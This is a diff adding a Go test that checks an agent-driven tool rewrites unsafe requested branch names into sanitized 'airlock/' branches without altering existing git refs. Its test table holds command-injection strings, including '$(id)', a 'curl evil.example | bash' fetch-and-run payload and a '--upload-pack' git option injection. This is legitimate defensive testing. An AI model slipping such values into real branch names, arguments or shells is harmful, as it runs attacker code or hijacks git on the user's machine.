@@ -66,3 +66,46 @@ func TestScheduledRunsKeepTheirPullRequests(t *testing.T) {
 		t.Errorf("the pull requests are\n%s", got)
 	}
 }
+
+// TestBranchNamesAreSafe asserts that no name of an agent's gets into the repository as it
+// is, if it means something to a shell, to git, to people or to other programs.
+func TestBranchNamesAreSafe(t *testing.T) {
+	t.Parallel()
+	s := newSchedule(t)
+	s.policy += "  max: -1\n"
+	s.git.SetBranch("gh-pages", s.git.SHA("master"))
+	s.git.Run("tag", "v2", s.git.SHA("master"))
+	asked := map[string]string{
+		"$(id)": "airlock/id-d7d54e79", "`id`": "airlock/id-625b83fe", "a;b": "airlock/a-b-5719af18", "fix/$({curl,evil.example}|bash)": "airlock/fix/curl-evil.example-bash-bc94b322",
+		"@": "airlock/changes-c3641f85", "HEAD": "airlock/HEAD-", "FETCH_HEAD": "airlock/FETCH_HEAD", "Master": "airlock/Master", "master": "airlock/master", "gh-pages": "airlock/gh-pages",
+		"release/1.0": "airlock/release/1.0", "dependabot/npm/x": "airlock/dependabot/npm/x", "v2": "airlock/v2", "refs/heads/master": "airlock/master-", "user/@scope/x": "airlock/user/scope/x-",
+		"-x": "airlock/x-", "--upload-pack=touch x": "airlock/upload-pack-touch-x-", "a..b": "airlock/a.b-", "日本": "airlock/changes-", "airlock/../x": "airlock/x-", "con": "airlock/_con-",
+	}
+	names, lines := []string{}, ""
+	for name := range asked {
+		names = append(names, name)
+		lines += pullLine(t, "For "+name, name)
+	}
+	before := s.git.Run("for-each-ref", "--format=%(refname) %(objectname)")
+	res := s.run("New.\n", lines)
+	assertSays(t, res, 0)
+	after := s.git.Run("for-each-ref", "--format=%(refname) %(objectname)")
+	opened := s.server.State().Issues[2:]
+	if len(opened) != len(asked) {
+		t.Fatalf("%d pull requests for %d names", len(opened), len(asked))
+	}
+	for i, name := range names {
+		head := opened[i].Pull.Head.Ref
+		if !strings.HasPrefix(head, strings.TrimSuffix(asked[name], "-2")) || strings.Trim(head, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._/-") != "" {
+			t.Errorf("%q leads to %q, want %q", name, head, asked[name])
+		}
+		if shown, _ := json.Marshal(fmt.Sprintf("the branch %q was asked for; its name is %q", name, strings.TrimSuffix(head, "-2"))); !strings.Contains(res.stdout, strings.Trim(string(shown), `"`)) && !strings.Contains(name, "@") {
+			t.Errorf("%q: no note says that its name is %q", name, head)
+		}
+	}
+	for line := range strings.Lines(before) {
+		if !strings.Contains(after+"\n", line) {
+			t.Errorf("%s was changed", line)
+		}
+	}
+}
